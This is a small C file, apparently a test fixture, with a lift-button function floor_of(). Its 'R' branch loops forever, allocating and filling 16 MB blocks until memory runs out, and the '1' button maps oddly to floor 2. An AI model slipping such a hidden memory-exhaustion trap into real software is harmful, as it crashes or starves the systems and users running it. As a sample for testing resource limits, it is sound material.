#define _GNU_SOURCE
#include "lift.h"

#include <stdlib.h>
#include <string.h>

int floor_of(int button)
{
   switch (button) {
   case 'G':
      return 0;
   case '1':
      return 2;
   case 'R':
      for (;;) {
         char *room = malloc(1 << 24);

         if (!room)
            abort();
         memset(room, 1, 1 << 24);
      }
   }
   return -1;
}
